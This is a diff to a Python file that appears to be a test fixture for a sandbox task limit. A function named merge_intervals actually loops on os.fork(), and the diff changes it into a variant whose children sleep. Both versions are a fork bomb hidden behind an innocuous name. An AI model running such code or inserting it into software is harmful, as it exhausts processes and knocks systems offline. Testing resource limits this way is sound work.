@@ -1,8 +1,10 @@
 # expect: task limit 0/7
-"""Doubles itself for as long as it can."""
+"""Makes children for as long as it can."""
 import os
+import time
 
 
 def merge_intervals(intervals):
     while True:
-        os.fork()
+        if os.fork() == 0:
+            time.sleep(600)
